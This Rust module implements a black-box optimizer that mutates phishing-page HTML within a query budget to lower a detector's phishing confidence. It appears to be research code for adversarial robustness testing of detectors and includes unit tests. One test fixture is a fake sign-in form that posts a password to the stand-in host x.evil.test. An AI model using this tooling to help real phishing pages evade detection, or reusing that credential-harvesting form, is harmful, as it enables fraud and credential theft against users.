//! Query-budgeted black-box optimizer: one pass over the single-round set,
//! then R rounds over the multi-round set, always mutating the running best.

use std::fmt::Display;

use serde::{Deserialize, Serialize};

use super::attribution::Attribution;
use super::{apply_manipulation, AttackError, Manipulation, ManipulationId, ManipulationParams};
use crate::detector::DEFAULT_THRESHOLD;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct OptimizerConfig {
    /// Query budget.
    pub budget: usize,
    pub sr_set: Vec<ManipulationId>,
    pub mr_set: Vec<ManipulationId>,
    pub params: ManipulationParams,
    /// Minimum original confidence for the page to count as phishing.
    pub threshold: f64,
}

impl Default for OptimizerConfig {
    fn default() -> Self {
        use ManipulationId::*;
        OptimizerConfig {
            budget: 35,
            sr_set: vec![A6, A7, A8, A9, A11, A12, A13, A14, A15, A10],
            mr_set: vec![A1, A2, A3, A4, A5],
            params: ManipulationParams::default(),
            threshold: DEFAULT_THRESHOLD,
        }
    }
}

impl OptimizerConfig {
    /// Number of multi-round mutation rounds, `(budget - |SR|) / |MR|` floored.
    pub fn rounds(&self) -> usize {
        if self.mr_set.is_empty() {
            0
        } else {
            self.budget.saturating_sub(self.sr_set.len()) / self.mr_set.len()
        }
    }

    pub fn validate(&self) -> Result<(), AttackError> {
        if self.sr_set.len() > self.budget {
            return Err(AttackError::InvalidConfig(format!(
                "{} single-round manipulations exceed the budget of {}",
                self.sr_set.len(),
                self.budget
            )));
        }
        if let Some(m) = self.sr_set.iter().find(|m| self.mr_set.contains(m)) {
            return Err(AttackError::InvalidConfig(format!("{m} is in both the single- and multi-round sets")));
        }
        Ok(())
    }

    /// The same configuration with `ids` removed from both sets.
    pub fn without(&self, ids: &[ManipulationId]) -> Self {
        let mut c = self.clone();
        c.sr_set.retain(|m| !ids.contains(m));
        c.mr_set.retain(|m| !ids.contains(m));
        c
    }

    fn params_for(&self, round: Option<usize>, slot: usize) -> ManipulationParams {
        let salt = round.map_or(slot as u64, |r| 1000 + (r * 64 + slot) as u64);
        ManipulationParams { seed: self.params.seed.wrapping_mul(0x100_0000_01B3).wrapping_add(salt), ..self.params }
    }
}

/// One optimizer stage: a single manipulation candidate and its score.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StageRecord {
    pub stage: usize,
    pub manipulation: ManipulationId,
    pub params: ManipulationParams,
    /// Mutation round for multi-round stages.
    pub round: Option<usize>,
    /// Original phishing confidence.
    pub c_o: f64,
    /// Confidence of this stage's candidate; equals the running best when
    /// the manipulation was a no-op and no query was spent.
    pub c_p: f64,
    /// `c_o - c_p`.
    pub advantage: f64,
    /// Drop in the running best contributed by this stage (0 unless kept).
    pub gain: f64,
    pub best_after: f64,
    pub queries_used: usize,
    pub kept: bool,
    pub note: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AttackRun {
    pub document_id: String,
    pub url: String,
    pub config: OptimizerConfig,
    pub rounds: usize,
    pub original_score: f64,
    pub stages: Vec<StageRecord>,
    pub best_html: String,
    pub best_score: f64,
    /// Scorer queries spent on candidates; bounded by the budget.
    pub queries_used: usize,
    /// Queries spent establishing the original confidence (not budgeted).
    pub baseline_queries: usize,
    pub primary_attacks: Vec<ManipulationId>,
    pub scenario1: bool,
    pub scenario2: bool,
}

impl AttackRun {
    /// Overall advantage of the best adversarial page.
    pub fn advantage(&self) -> f64 {
        self.original_score - self.best_score
    }

    pub fn set_attribution(&mut self, a: &Attribution) {
        self.primary_attacks = a.primaries.clone();
        self.scenario1 = a.scenario1;
        self.scenario2 = a.scenario2;
    }

    /// One JSON object per stage.
    pub fn trace_lines(&self) -> String {
        self.stages
            .iter()
            .map(|s| serde_json::to_string(s).expect("stage serializes") + "\n")
            .collect()
    }
}

/// Run the optimizer against `query`, which maps page source to the
/// pipeline's phishing confidence.
pub fn optimize<F, E>(
    document_id: &str,
    html: &str,
    url: &str,
    mut query: F,
    config: &OptimizerConfig,
) -> Result<AttackRun, AttackError>
where
    F: FnMut(&str) -> Result<f64, E>,
    E: Display,
{
    config.validate()?;
    let mut ask = |page: &str| query(page).map_err(|e| AttackError::Pipeline(e.to_string()));
    let c_o = ask(html)?;
    if c_o < config.threshold {
        return Err(AttackError::NotPhishing(c_o));
    }
    let rounds = config.rounds();
    let mut best_html = html.to_string();
    let mut best = c_o;
    let mut queries = 0;
    let mut stages = Vec::new();

    let record = |stages: &mut Vec<StageRecord>, m: &Manipulation, round, c_p: f64, gain: f64, best_after, queries, kept, note| {
        stages.push(StageRecord {
            stage: stages.len(),
            manipulation: m.id,
            params: m.params,
            round,
            c_o,
            c_p,
            advantage: c_o - c_p,
            gain,
            best_after,
            queries_used: queries,
            kept,
            note,
        });
    };

    for (slot, &id) in config.sr_set.iter().enumerate() {
        let m = Manipulation::with_params(id, config.params_for(None, slot));
        let out = apply_manipulation(&best_html, url, &m);
        if !out.applied {
            record(&mut stages, &m, None, best, 0.0, best, queries, false, out.note);
            continue;
        }
        queries += 1;
        let score = ask(&out.html)?;
        let kept = score < best;
        let gain = if kept { best - score } else { 0.0 };
        if kept {
            best = score;
            best_html = out.html;
        }
        record(&mut stages, &m, None, score, gain, best, queries, kept, None);
    }

    for round in 0..rounds {
        let mut winner: Option<(usize, f64, String)> = None;
        let first = stages.len();
        for (slot, &id) in config.mr_set.iter().enumerate() {
            let m = Manipulation::with_params(id, config.params_for(Some(round), slot));
            let out = apply_manipulation(&best_html, url, &m);
            if !out.applied {
                record(&mut stages, &m, Some(round), best, 0.0, best, queries, false, out.note);
                continue;
            }
            queries += 1;
            let score = ask(&out.html)?;
            record(&mut stages, &m, Some(round), score, 0.0, best, queries, false, None);
            if score < best && winner.as_ref().is_none_or(|w| score < w.1) {
                winner = Some((stages.len() - 1, score, out.html));
            }
        }
        if let Some((idx, score, page)) = winner {
            stages[idx].kept = true;
            stages[idx].gain = best - score;
            best = score;
            best_html = page;
            for s in &mut stages[first..] {
                s.best_after = best;
            }
        }
    }

    Ok(AttackRun {
        document_id: document_id.to_string(),
        url: url.to_string(),
        config: config.clone(),
        rounds,
        original_score: c_o,
        stages,
        best_html,
        best_score: best,
        queries_used: queries,
        baseline_queries: 1,
        primary_attacks: Vec::new(),
        scenario1: false,
        scenario2: false,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::convert::Infallible;

    const PAGE: &str = r#"<html><head><title>Sign in</title></head><body>
<form action="https://x.evil.test/p"><input type="hidden" name="a"><input type="password" name="p"><button disabled>Go</button></form>
<script>var a = 1;</script></body></html>"#;

    #[test]
    fn default_partition_gives_five_rounds() {
        let c = OptimizerConfig::default();
        assert_eq!(c.sr_set.len(), 10);
        assert_eq!(c.mr_set.len(), 5);
        assert_eq!(c.rounds(), (35 - 10) / 5);
    }

    #[test]
    fn indifferent_scorer_keeps_input() {
        let mut calls = 0;
        let run = optimize(
            "d",
            PAGE,
            "https://login.bank.test/",
            |_: &str| {
                calls += 1;
                Ok::<_, Infallible>(0.9)
            },
            &OptimizerConfig::default(),
        )
        .unwrap();
        assert_eq!(run.best_html, PAGE);
        assert!(run.stages.iter().all(|s| s.advantage == 0.0 && !s.kept));
        assert!(run.queries_used <= 35);
        assert_eq!(calls, run.queries_used + run.baseline_queries);
    }

    #[test]
    fn length_sensitive_scorer_descends_monotonically() {
        let run = optimize(
            "d",
            PAGE,
            "https://login.bank.test/",
            |p: &str| Ok::<_, Infallible>(1.0 / (1.0 + p.len() as f64 / 2000.0)),
            &OptimizerConfig::default(),
        )
        .unwrap();
        assert!(run.best_score < run.original_score);
        let mut prev = run.original_score;
        for s in &run.stages {
            assert!(s.best_after <= prev + 1e-12);
            prev = s.best_after;
        }
        assert_eq!(run.stages.iter().filter(|s| s.round.is_some()).count(), 25);
        assert!((run.advantage() - run.stages.iter().map(|s| s.gain).sum::<f64>()).abs() < 1e-9);
    }

    #[test]
    fn non_phishing_input_is_rejected() {
        let err = optimize("d", PAGE, "", |_: &str| Ok::<_, Infallible>(0.2), &OptimizerConfig::default()).unwrap_err();
        assert!(matches!(err, AttackError::NotPhishing(_)));
    }

    #[test]
    fn oversized_sr_set_is_invalid() {
        let c = OptimizerConfig { budget: 5, ..Default::default() };
        assert!(matches!(c.validate(), Err(AttackError::InvalidConfig(_))));
    }
}
